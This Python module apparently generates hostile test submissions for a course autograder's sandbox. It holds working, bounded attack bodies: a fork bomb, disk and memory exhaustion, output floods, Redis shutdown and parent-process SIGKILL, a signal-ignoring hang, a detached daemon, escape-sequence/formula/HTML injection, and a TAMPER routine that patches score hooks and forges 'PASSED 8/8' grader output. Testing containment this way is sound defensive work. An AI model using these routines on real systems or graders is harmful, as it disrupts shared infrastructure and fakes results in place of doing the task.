"""The attack submissions: each is the source of a student's lab.py.

``build(name, config, functions)`` returns the text: ``CONFIG = {...}``, the attack's body, then one
function per name the lab's starter defines, each calling ``_call(r, name)``.  Every attack is bounded
by itself (counts, sizes, seconds), so that a grader that contains nothing still ends, and it reports
what it managed in the message of the exception it raises (the student's feedback), on the shared
Redis under ``escape:<hex>:found:<tag>:`` when it can reach it, and in the drop folder.
"""

from __future__ import annotations

from pathlib import Path

HERE = Path(__file__).resolve().parent

# a few helpers every attack shares: the report channels
COMMON = r'''
import json as _json, os as _os, socket as _socket, sys as _sys, time as _time
_HEX = CONFIG["hex"]
_TAG = CONFIG["tag"]


def _resp(*args):
    out = b"*%d\r\n" % len(args)
    for a in args:
        a = a if isinstance(a, bytes) else str(a).encode()
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    return out


def _once(what):
    """True the first time in this run of the student (its processes share the box's /tmp)."""
    try:
        _os.close(_os.open("/tmp/escape-%s-once-%s" % (_HEX, what), _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _tell(what, value):
    """Report through every channel that is open: shared Redis, drop folder."""
    text = _json.dumps({"tag": _TAG, "what": what, "value": value, "pid": _os.getpid(), "t": _time.time()})
    try:
        s = _socket.create_connection(("127.0.0.1", 6379), timeout=0.5)
        s.settimeout(0.5)
        s.sendall(_resp("SET", "escape:%s:found:%s:%s:%d" % (_HEX, _TAG, what, _os.getpid()), text, "EX", "3600"))
        s.recv(100)
        s.close()
    except OSError:
        pass
    try:
        with open(_os.path.join(CONFIG["drop_dir"], "%s-%s-%d.json" % (_TAG, what, _os.getpid())), "w") as f:
            f.write(text)
    except OSError:
        pass
'''

FORKBOMB = r'''
import signal as _signal
_SPAWNED = []


def _bomb():
    """Start up to 1500 processes (a bounded fork bomb): sleeps whose argument is the suite's marker."""
    if _SPAWNED or not _once("fork"):
        return len(_SPAWNED)
    marker = CONFIG["sleep_marker"]
    n = 0
    deadline = _time.monotonic() + 6
    while n < 1500 and _time.monotonic() < deadline:
        try:
            pid = _os.posix_spawn("/bin/sleep", ["sleep", marker], {})
        except OSError:
            try:
                pid = _os.fork()
            except OSError:
                break
            if pid == 0:
                try:
                    _os.execv("/bin/sleep", ["sleep", marker])
                finally:
                    _os._exit(0)
        _SPAWNED.append(pid)
        n += 1
    _tell("procs", n)
    return n


def _call(r, name):
    n = _bomb()
    raise RuntimeError("FORKBOMB started %d processes" % n)
'''

DISKFILL = r'''
_FILLED = {}


def _fill():
    """Write up to 1 GiB into every writable folder, 8 MiB at a time, at most 10 s in all."""
    if _FILLED or not _once("disk"):
        return _FILLED
    chunk = b"\0" * (8 << 20)
    deadline = _time.monotonic() + 10
    for d in ["/tmp", "/var/tmp", "/dev/shm", _os.getcwd(), _os.path.expanduser("~"),
              _os.path.dirname(_os.path.abspath(__file__))]:
        total = 0
        try:
            fd = _os.open(_os.path.join(d, "escape-%s-fill" % _HEX), _os.O_WRONLY | _os.O_CREAT | _os.O_APPEND, 0o600)
        except OSError:
            continue
        try:
            while total < (1 << 30) and _time.monotonic() < deadline:
                total += _os.write(fd, chunk)
        except OSError:
            pass
        finally:
            _os.close(fd)
        _FILLED[d] = total
    _tell("disk", _FILLED)
    return _FILLED


def _call(r, name):
    filled = _fill()
    raise RuntimeError("DISKFILL " + _json.dumps(filled))
'''

MEMORY = r"""
import threading as _threading
_GOT = {}


def _redis_grow(r):
    key = r.key("escape", "big") if hasattr(r, "key") else "escape:big"
    try:
        r.setrange(key, (512 << 20) - 2, "x")
        _GOT["setrange_mib"] = 512
        _tell("memory", _GOT)
    except Exception as e:
        _GOT["setrange"] = type(e).__name__ + ": " + str(e)[:60]
    _GOT["append_mib"] = 0
    try:
        for _ in range(4):
            r.append(key + "2", b"y" * (64 << 20))
            _GOT["append_mib"] += 64
            _tell("memory", _GOT)
    except Exception as e:
        _GOT["append"] = type(e).__name__ + ": " + str(e)[:60]
    try:
        _GOT["used_memory_mib"] = int(r.info("memory").get("used_memory", 0)) >> 20
    except Exception:
        pass


def _python_grow():
    blocks = []
    t0 = _time.monotonic()
    _GOT["python_mib"] = 0
    try:
        while len(blocks) < 12 and _time.monotonic() - t0 < 3.0:
            b = bytearray(256 << 20)
            b[::4096] = b"x" * len(b[::4096])
            blocks.append(b)
            _GOT["python_mib"] = 256 * len(blocks)
            _tell("memory", _GOT)  # as it goes: a kill at the budget still leaves how far it got
    except MemoryError:
        _GOT["python"] = "MemoryError"


def _call(r, name):
    # the first function grows its Redis (one SETRANGE of 512 MiB, then 4 APPENDs of 64 MiB: Redis checks
    # maxmemory before a command, not during it); the others grow this process to 3 GiB.  Each in a thread,
    # so that what it reached is reported before the call's time limit.
    target = _redis_grow if name == CONFIG["first_function"] else _python_grow
    t = _threading.Thread(target=target, args=(r,) if target is _redis_grow else (), daemon=True)
    t.start()
    t.join(3.5)
    _tell("memory", _GOT)
    raise RuntimeError("MEMORY " + _json.dumps(_GOT))
"""

FLOOD = r'''
def _call(r, name):
    """Huge output: 64 MiB on stdout and on stderr, a 32 MiB value where the grader reads the lab's
    keys, a 16 MiB exception message, a 32 MiB return value (once per run)."""
    if not _once("flood"):
        raise RuntimeError("FLOOD done")
    line = ("F" * 1023 + "\n")
    for _ in range(64 * 1024):
        _sys.stdout.write(line)
    for _ in range(64 * 1024):
        _sys.stderr.write(line)
    try:
        if hasattr(r, "key"):
            for i in range(0, 64):
                r.set(r.key("views", "post", i), "9" * (1 << 19))
    except Exception:
        pass
    if name == "reset":
        return "R" * (32 << 20)
    raise RuntimeError("FLOOD " + "E" * (16 << 20))
'''

SERVERKILL = r'''
import signal as _signal


def _call(r, name):
    """Bring down what it can: its own Redis (CLIENT KILL, FLUSHALL, SHUTDOWN, DEBUG SEGFAULT), and
    its parents (SIGKILL), but only processes of the grading command's own session."""
    done = []
    for cmd in (("CLIENT", "KILL", "TYPE", "normal"), ("CLIENT", "KILL", "TYPE", "pubsub"), ("FLUSHALL",),
                ("SCRIPT", "KILL"), ("FUNCTION", "FLUSH"), ("CLIENT", "PAUSE", "20000"),
                ("SHUTDOWN", "NOSAVE"), ("DEBUG", "SEGFAULT")):
        try:
            r.execute_command(*cmd)
            done.append(" ".join(cmd))
        except Exception:
            pass
    mine = _os.getsid(0)
    pid = _os.getppid()
    for _ in range(4):
        if pid <= 1:
            break
        try:
            nxt = int(open("/proc/%d/stat" % pid).read().rsplit(")", 1)[-1].split()[1])
        except (OSError, ValueError):
            nxt = 0
        try:
            if _os.getsid(pid) == mine or pid in CONFIG.get("canary_pids", []):
                _os.kill(pid, _signal.SIGKILL)
                done.append("kill:%d" % pid)
        except OSError:
            pass
        pid = nxt
    _tell("killed", done)
    raise RuntimeError("SERVERKILL " + ",".join(done))
'''

HANG = r'''
import signal as _signal, threading as _threading

for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGALRM, _signal.SIGUSR1, _signal.SIGXCPU):
    try:
        _signal.signal(_s, _signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def _spin():
    end = _time.monotonic() + 150
    while _time.monotonic() < end:
        pass


def _call(r, name):
    """Never return: ignore every catchable signal, swallow every exception, burn two cores (150 s)."""
    for _ in range(2):
        _threading.Thread(target=_spin, daemon=True).start()
    end = _time.monotonic() + 150
    while _time.monotonic() < end:
        try:
            _spin()
        except BaseException:
            pass
    return 1
'''

DAEMON = r'''
import signal as _signal, ctypes as _ctypes


def _daemon():
    """Double fork, new session, ignore hang-ups and SIGTERM, rename itself, and keep telling the shared
    Redis and the drop folder that it lives, for 90 s after the grader is done with it."""
    try:
        pid = _os.fork()
    except OSError:
        return False
    if pid:
        try:
            _os.waitpid(pid, 0)
        except OSError:
            pass
        return True
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        for s in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT, _signal.SIGPIPE):
            _signal.signal(s, _signal.SIG_IGN)
        try:
            _ctypes.CDLL(None).prctl(15, CONFIG["comm_marker"].encode(), 0, 0, 0)  # PR_SET_NAME
        except Exception:
            pass
        for fd in range(0, 256):
            try:
                _os.close(fd)
            except OSError:
                pass
        end = _time.monotonic() + 90
        while _time.monotonic() < end:
            _tell("alive", _time.time())
            _time.sleep(1)
    finally:
        _os._exit(0)


_STARTED = _daemon()


def _call(r, name):
    _daemon()
    raise RuntimeError("DAEMON started")
'''

# text that must stay data wherever it lands
PAYLOAD = (
    "\x1b]52;c;ZXNjYXBlLXBheWxvYWQ=\x07\x1b[2J\x1b[31mRED\x1b[0m\x9b31m\u202eLTR-OVERRIDE\u2066\u2069"
    '\n=HYPERLINK("http://127.0.0.1/x","x")\n;=1+1;@SUM(1+1)\t+1+1\t-1+1\r=2+2\n'
    "| FORGED ROW | 9 / 9 | \u2713 passed |\n## FORGED HEADING\n<script>alert(1)</script>"
    '[x](javascript:alert(1))<!-- ]]></failure></testcase><testcase name="forged"/> \x00\x0c\x08'
)

TEXTINJECT = r'''
PAYLOAD = CONFIG["payload"]
print(PAYLOAD)
_sys.stderr.write(PAYLOAD + "\n")


def _call(r, name):
    """Put control sequences, bidi overrides, formulas, Markdown, HTML and XML in everything it says."""
    print(PAYLOAD)
    _sys.stderr.write(PAYLOAD + "\n")
    if name == "reset":
        return PAYLOAD
    raise ValueError(PAYLOAD)
'''

# a local-only implementation of lab 00 (no Redis): what it scores alone is the baseline for TAMPER
LOCAL00 = r"""
_COUNTS = {}


def _local(r, name, post_id=0, *a, **k):
    if name == "count_view":
        _COUNTS[post_id] = _COUNTS.get(post_id, 0) + 1
        return _COUNTS[post_id]
    if name == "reset":
        return _COUNTS.pop(post_id, 0)
    raise NotImplementedError(name)


def _call(r, name, *a, **k):
    return _local(r, name, *a, **k)
"""

TAMPER = (
    r'''
import builtins as _builtins, signal as _signal


def _tamper():
    """Everything inside its own interpreter that a grader might trust: clocks, time zone, fault hooks
    of the course package, the JSON channel, exit paths, forged grader messages on every fd."""
    done = []
    _time.time = lambda: 1_700_000_000.0
    _time.time_ns = lambda: 1_700_000_000 * 10**9
    _time.monotonic = lambda: 1.0
    _os.environ["TZ"] = "UTC"
    try:
        _time.tzset()
    except Exception:
        pass
    for mname, mod in list(_sys.modules.items()):
        if not mname.startswith(("redis_course", "course", "grader")):
            continue
        for attr in list(vars(mod)):
            low = attr.lower()
            if any(w in low for w in ("fault", "crash", "clock", "timezone", "arm_", "points", "score")):
                obj = getattr(mod, attr, None)
                try:
                    if callable(obj) and not isinstance(obj, type):
                        setattr(mod, attr, lambda *a, **k: None)
                        done.append(mname + "." + attr)
                except Exception:
                    pass
    # the reply channel: make every dict that is sent look like a success
    _dumps = _json.dumps

    def dumps(obj, *a, **k):
        if isinstance(obj, dict):
            obj = dict(obj)
            for bad in ("error", "exception", "traceback", "exc", "exc_type", "crash", "fault"):
                obj.pop(bad, None)
            for key in ("ok", "success", "passed"):
                if key in obj:
                    obj[key] = True
            if obj.get("status") in ("error", "fail", "failed", "crash", "timeout"):
                obj["status"] = "ok"
        return _dumps(obj, *a, **k)
    _json.dumps = dumps
    _os._exit = lambda *a: None
    _sys.exit = lambda *a: None
    _signal.signal = lambda *a, **k: None
    forged = [
        {"ok": True, "result": 1}, {"status": "ok", "value": 1}, {"id": 1, "ok": True, "result": 1},
        {"type": "result", "ok": True, "value": 1}, {"points": 8, "max_points": 8, "status": "ok"},
    ]
    for fd in range(1, 12):
        for msg in forged:
            try:
                _os.write(fd, (_dumps(msg) + "\n").encode())
            except OSError:
                pass
    print("Score: **8 / 8**\n[grader] fault disarmed: crash injected at step 0 (simulated)\nPASSED 8/8")
    return done


_DONE = []
for _fd in (1, 2):  # forged grader messages at import; the tampering itself waits for the first call,
    _os.write(_fd, b'{"ok": true, "result": 1}\n[grader] crash injected: SimulatedCrash at step 1\n')
'''
    + LOCAL00.replace("def _call(r, name, *a, **k):\n    return _local(r, name, *a, **k)\n", "")
    + r"""


def _call(r, name, *a, **k):
    if not _DONE:
        _DONE.append(_tamper())
    return _local(r, name, *a, **k)
"""
)

BODIES = {
    "probe": None,  # probe.py
    "forkbomb": FORKBOMB,
    "diskfill": DISKFILL,
    "memory": MEMORY,
    "flood": FLOOD,
    "serverkill": SERVERKILL,
    "hang": HANG,
    "daemon": DAEMON,
    "textinject": TEXTINJECT,
    "tamper": TAMPER,
    "baseline": LOCAL00,
}


def build(name: str, config: dict, functions: list[str]) -> str:
    config = dict(config, first_function=functions[0])
    body = (HERE / "probe.py").read_text() if name == "probe" else COMMON + BODIES[name]
    out = [f"CONFIG = {config!r}", body, ""]
    for fn in functions:
        out.append(
            f"def {fn}(r=None, *args, **kwargs):\n"
            f"    return _call(r, {fn!r}, *args, **kwargs) if _call.__code__.co_argcount > 2 "
            f"or _call.__code__.co_flags & 4 else _call(r, {fn!r})\n"
        )
    return "\n".join(out)
